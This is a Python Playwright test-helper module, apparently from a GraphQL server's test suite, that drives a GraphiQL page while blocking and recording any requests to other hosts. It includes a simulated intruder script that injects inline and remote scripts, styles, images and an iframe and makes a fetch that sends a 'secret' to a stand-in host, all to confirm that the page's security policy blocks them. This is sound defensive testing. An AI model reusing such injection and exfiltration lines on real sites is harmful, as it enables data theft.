"""A visit to one of our pages: what it asks others for and says in the console is noted."""

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from types import MappingProxyType
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import (
    BrowserContext,
    ConsoleMessage,
    Locator,
    Page,
    Response,
    Route,
    expect,
)

from tests.server.commands import ROOT

ARTEFACTS = ROOT / ".artefacts" / "browser"
"""Where a run leaves its screenshots."""
NOT_OURS = ("Missing `Description` or `aria-describedby={undefined}` for {DialogContent}",)
"""What GraphiQL's own dialogs make a library of theirs say."""

EDITOR = "document.querySelector('.graphiql-query-editor .CodeMirror').CodeMirror"
SHOWN = "document.querySelector('.result-window .CodeMirror').CodeMirror.getValue()"


@dataclass
class Visit:
    """One page in a browser that reaches the server and nothing else."""

    page: Page
    address: str
    foreign: list[str] = field(default_factory=list)
    """What was asked of other hosts, and blocked."""
    said: list[str] = field(default_factory=list)
    """Errors and warnings of the console, and errors that no script caught."""

    def run_tab(self, title: str) -> Any:
        """Choose the tab, execute it; the answer that is on the screen."""
        self.choose(title)
        return self.execute()

    def choose(self, title: str) -> None:
        """Bring the tab of this title to the front."""
        self.page.get_by_role("tab").get_by_text(title, exact=True).click()
        # GraphiQL reads the document again a moment after; a person isn't as fast as this.
        self.page.wait_for_function(f"title => {EDITOR}.operationName === title", arg=title)

    def execute(self) -> Any:
        """Press the button; the answer that is on the screen."""
        with self.page.expect_response(_executed) as answered:
            self.page.get_by_role("button", name="Execute query").click()
        answer = answered.value.json()
        self.page.wait_for_function(
            f"answer => {{ try {{ return JSON.stringify(JSON.parse({SHOWN})) === answer }}"
            "catch { return false } }",
            arg=json.dumps(answer, ensure_ascii=False, separators=(",", ":")),
        )
        return answer

    @property
    def answer_pane(self) -> Locator:
        return self.page.locator(".result-window")

    def document(self) -> str:
        """What is in the query editor."""
        written: str = self.page.evaluate(f"{EDITOR}.getValue()")
        return written

    def until_written(self, text: str) -> None:
        """Wait until this is in the query editor, which follows the explorer in its own time."""
        self.page.wait_for_function(f"text => {EDITOR}.getValue().includes(text)", arg=text)

    def shoot(self, name: str) -> Path:
        """A screenshot, for somebody to look at."""
        ARTEFACTS.mkdir(parents=True, exist_ok=True)
        file = ARTEFACTS / f"{name}.png"
        self.page.screenshot(path=file, animations="disabled")
        return file


def _executed(answer: Response) -> bool:
    asked = answer.request.post_data
    return asked is not None and json.loads(asked).get("operationName") != "IntrospectionQuery"


def visit(
    context: BrowserContext, address: str, elsewhere: Mapping[str, bytes] = MappingProxyType({})
) -> Visit:
    """Open GraphiQL's page, with every other host blocked, but for these files."""
    page = context.new_page()
    visited = Visit(page, address)
    host = urlsplit(address).netloc

    def only_ours(route: Route) -> None:
        if urlsplit(route.request.url).netloc == host:
            route.continue_()
        else:
            visited.foreign.append(route.request.url)
            if route.request.url in elsewhere:
                anybody = {"Access-Control-Allow-Origin": "*"}
                route.fulfill(body=elsewhere[route.request.url], headers=anybody)
            else:
                route.abort()

    def note(message: ConsoleMessage) -> None:
        if message.type in {"error", "warning"} and not any(
            each in message.text for each in NOT_OURS
        ):
            visited.said.append(f"{message.type}: {message.text}")

    page.route("**/*", only_ours)
    page.on("console", note)
    page.on("pageerror", lambda error: visited.said.append(f"uncaught: {error}"))
    page.goto(f"{address}/graphql")
    return visited


def blocked_by_policy(page: Page) -> list[str]:
    """What the page's policy says no to of what a script that got in would try."""
    found: list[str] = page.evaluate(INTRUDER)
    return found


INTRUDER = """
() => new Promise(resolve => {
  const found = [];
  document.addEventListener("securitypolicyviolation", event =>
    found.push(`${event.effectiveDirective} ${event.blockedURI}`));
  const add = (tag, attributes) =>
    document.body.append(Object.assign(document.createElement(tag), attributes));
  add("script", { textContent: "window.intruded = true" });
  add("style", { textContent: "body { display: none }" });
  add("script", { src: "https://unpkg.com/intruder@1.0.0/index.js" });
  add("link", { rel: "stylesheet", href: "https://elsewhere.example/a.css" });
  add("img", { src: "https://elsewhere.example/a.png" });
  add("iframe", { src: "https://elsewhere.example/" });
  fetch("https://elsewhere.example/?secret").catch(() => {});
  setTimeout(() => resolve(found.sort()), 1000);
})
"""
BLOCKED = [
    "connect-src https://elsewhere.example/?secret",
    "frame-src https://elsewhere.example",
    "img-src https://elsewhere.example/a.png",
    "script-src-elem https://unpkg.com/intruder@1.0.0/index.js",
    "script-src-elem inline",
    "style-src-elem https://elsewhere.example/a.css",
    "style-src-elem inline",
]


def see(locator: Locator) -> None:
    """It is there, and within the window."""
    expect(locator.first).to_be_visible()
    expect(locator.first).to_be_in_viewport()
